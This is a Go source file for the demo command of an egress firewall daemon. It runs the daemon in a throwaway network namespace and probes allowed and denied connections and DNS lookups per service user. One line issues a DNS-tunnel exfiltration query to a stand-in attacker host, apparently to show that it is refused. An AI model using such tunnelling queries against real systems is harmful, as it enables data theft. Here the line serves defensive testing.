package main

import (
	"fmt"
	"io"
	"net/netip"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"

	"github.com/miekg/dns"

	"github.com/egressd/egressd/internal/event"
	"github.com/egressd/egressd/internal/testworld"
)

// The demo's world: every address is a documentation address bound to the
// loopback interface of a namespace that exists only while the demo runs.
const (
	demoUIDBilling = 64001
	demoUIDWeb     = 64002
	demoUIDOther   = 64003
	demoUIDFetcher = 64004 // dns: proxy
	demoUIDMirror  = 64005 // the same name under dns: resolvers
)

var demoAddrs = []string{"192.0.2.53", "192.0.2.10", "192.0.2.11", "198.51.100.20", "2001:db8::10"}

const demoMain = `# egressd demo: main configuration
resolvers: ["192.0.2.53:53"]
min_ttl: 1s
linger: 4s
deny_log: { mode: nflog, group: 100, rate: 10/second, prefix: "egressd" }
on_exit: keep
`

const demoBilling = `# The billing service may reach its payment API (by name), nothing else.
user: 64001
allow:
  - api.payments.example:443
dns: resolvers
`

const demoFetcher = `# The fetcher downloads from a CDN whose name answers a different address
# each time: its DNS goes through egressd's proxy, which allows exactly the
# address each answer gave, before the fetcher sees it. Other names: REFUSED.
user: 64004
dns: proxy
allow:
  - cdn.example:443
`

const demoMirror = `# The mirror needs the same CDN, but resolves on its own (dns: resolvers):
# egressd's own lookups and the mirror's get different answers.
user: 64005
allow:
  - cdn.example:443
`

const demoWeb = `# The web service may reach one CDN range on 443; no DNS at all.
user: 64002
allow:
  - 198.51.100.0/24:443
dns: none
`

func cmdDemo(args []string, stdout, stderr io.Writer) int {
	pos, code, done := noFlags("demo", args, stderr)
	if done {
		return code
	}
	if len(pos) > 0 {
		return usageError(stderr, "demo", "unexpected argument %q: demo takes none", pos[0])
	}
	if os.Geteuid() != 0 {
		fmt.Fprintln(stderr, "egressd demo: needs root to create a network namespace and an nftables table inside it (the host's firewall is not touched)")
		return 2
	}
	if err := demo(stdout); err != nil {
		fmt.Fprintln(stderr, "egressd demo:", err)
		return 1
	}
	return 0
}

func demo(out io.Writer) error {
	say := func(format string, a ...any) { fmt.Fprintf(out, format+"\n", a...) }
	w, err := testworld.New(demoAddrs...)
	if err != nil {
		return err
	}
	defer w.Close()
	say("▶ created a throwaway network namespace with %s on its loopback", strings.Join(demoAddrs, ", "))

	// The demo's own DNS server, inside the namespace.
	dnsSrv, err := w.StartDNS("192.0.2.53:53")
	if err != nil {
		return err
	}
	dnsSrv.Set("api.payments.example", testworld.Record{A: []netip.Addr{netip.MustParseAddr("192.0.2.10")}, AAAA: []netip.Addr{netip.MustParseAddr("2001:db8::10")}, TTL: 2})
	say("▶ DNS server on 192.0.2.53:53: api.payments.example → 192.0.2.10, 2001:db8::10 (TTL 2s)")

	// Example services.
	if err := w.ServeTCP("192.0.2.10:443", "192.0.2.10:8080", "192.0.2.11:443", "198.51.100.20:443", "198.51.100.20:4444", "[2001:db8::10]:443"); err != nil {
		return err
	}
	say("▶ example services listening on 192.0.2.10:443, :8080, 192.0.2.11:443, 198.51.100.20:443, :4444, [2001:db8::10]:443")

	cdn := [][]netip.Addr{{netip.MustParseAddr("192.0.2.11")}, {netip.MustParseAddr("198.51.100.20")}, {netip.MustParseAddr("192.0.2.10")}}
	dnsSrv.Set("cdn.example", testworld.Record{Rotate: cdn, TTL: 300})
	say("▶ ... and cdn.example, a CDN name: each answer is the next of 192.0.2.11, 198.51.100.20, 192.0.2.10 (TTL 300s)")
	files := map[string]string{"egressd.yaml": demoMain, "allow.d/billing.yaml": demoBilling, "allow.d/web.yaml": demoWeb,
		"allow.d/fetcher.yaml": demoFetcher, "allow.d/mirror.yaml": demoMirror}
	for name, body := range files {
		if err := w.Write(name, body); err != nil {
			return err
		}
	}
	say("▶ configuration in %s:", w.Dir)
	for _, name := range []string{"allow.d/billing.yaml", "allow.d/web.yaml", "allow.d/fetcher.yaml", "allow.d/mirror.yaml"} {
		say("  ── %s\n%s", name, indent(files[name]))
	}

	self, err := os.Executable()
	if err != nil {
		return err
	}
	say("▶ starting the real daemon inside the namespace: egressd run --config %s", w.Config())
	d, err := w.Start(exec.Command(self, w.RunArgs()...), func(line string) { fmt.Fprintf(out, "  daemon │ %s\n", line) }, 10*time.Second)
	if d != nil {
		defer d.Stop(syscall.SIGTERM, 10*time.Second) //nolint:errcheck // Close kills it if it does not stop
	}
	if err != nil {
		return err
	}
	time.Sleep(200 * time.Millisecond)

	verdict := func(uid int, addr string) string {
		start := time.Now()
		err := w.DialAs(uid, "tcp", addr, 2*time.Second)
		v := "ALLOWED"
		if err != nil {
			v = "DENIED  (" + shortErr(err) + ")"
		}
		return fmt.Sprintf("%s in %v", v, time.Since(start).Round(10*time.Microsecond))
	}
	probe := func(uid int, who, addr string) {
		say("  %-26s → %-22s %s", who, addr, verdict(uid, addr))
	}
	say("\n▶ connections as each service user:")
	probe(demoUIDBilling, "billing (uid 64001)", "192.0.2.10:443")
	probe(demoUIDBilling, "billing (uid 64001)", "[2001:db8::10]:443")
	probe(demoUIDBilling, "billing (uid 64001)", "192.0.2.10:8080")
	probe(demoUIDBilling, "billing (uid 64001)", "198.51.100.20:4444")
	probe(demoUIDWeb, "web (uid 64002)", "198.51.100.20:443")
	probe(demoUIDWeb, "web (uid 64002)", "198.51.100.20:4444")
	probe(demoUIDWeb, "web (uid 64002)", "192.0.2.10:443")
	probe(demoUIDOther, "no allowlist (uid 64003)", "198.51.100.20:4444")
	probe(0, "root", "198.51.100.20:4444")

	say("\n▶ a rotating CDN name: each service resolves cdn.example itself (asking 192.0.2.53:53), then connects at once:")
	for _, s := range []struct {
		uid  int
		who  string
		mode string
	}{{demoUIDFetcher, "fetcher (uid 64004)", "dns: proxy"}, {demoUIDMirror, "mirror (uid 64005)", "dns: resolvers"}} {
		for i := 0; i < 3; i++ {
			rcode, addrs, err := w.ResolveAs(s.uid, "192.0.2.53:53", "cdn.example", 2*time.Second)
			if err != nil || rcode != dns.RcodeSuccess || len(addrs) == 0 {
				say("  %-26s %s: cdn.example did not resolve: %v %s", s.who, s.mode, err, dns.RcodeToString[rcode])
				continue
			}
			say("  %-26s %-15s cdn.example → %-15s connect :443 %s", s.who, s.mode, addrs[0], verdict(s.uid, netip.AddrPortFrom(addrs[0], 443).String()))
		}
	}
	say("  (with dns: resolvers, egressd resolved cdn.example on its own and holds only the address it got)")
	if rcode, _, err := w.ResolveAs(demoUIDFetcher, "192.0.2.53:53", "exfil-c2VjcmV0.attacker.example", 2*time.Second); err == nil {
		say("  fetcher asks for exfil-c2VjcmV0.attacker.example (a DNS tunnel): %s, logged as dns_refused", dns.RcodeToString[rcode])
	}

	say("\n▶ DNS change: api.payments.example now answers 192.0.2.11 (was 192.0.2.10)")
	m := w.Mark()
	dnsSrv.Set("api.payments.example", testworld.Record{A: []netip.Addr{netip.MustParseAddr("192.0.2.11")}, AAAA: []netip.Addr{netip.MustParseAddr("2001:db8::10")}, TTL: 2})
	if _, err := w.WaitEvent(event.RulesetApplied, m, 10*time.Second); err != nil {
		return err
	}
	time.Sleep(100 * time.Millisecond)
	say("  after the TTL ran out:")
	probe(demoUIDBilling, "billing (uid 64001)", "192.0.2.11:443")
	probe(demoUIDBilling, "billing (uid 64001)", "192.0.2.10:443")
	say("  (the old address lingers for TTL + linger, so connections in flight to it are not cut)")
	say("  waiting for the linger of 192.0.2.10 to run out…")
	if _, err := w.WaitEvents(event.RulesetApplied, m, 2, 15*time.Second); err != nil {
		return err
	}
	time.Sleep(100 * time.Millisecond)
	probe(demoUIDBilling, "billing (uid 64001)", "192.0.2.10:443")
	probe(demoUIDBilling, "billing (uid 64001)", "192.0.2.11:443")
	say("\n▶ done: stopping the daemon and deleting the namespace (its table goes with it)")
	return nil
}

func shortErr(err error) string {
	s := err.Error()
	if i := strings.LastIndex(s, ": "); i >= 0 {
		s = s[i+2:]
	}
	return s
}

func indent(s string) string {
	return "     " + strings.ReplaceAll(strings.TrimRight(s, "\n"), "\n", "\n     ")
}
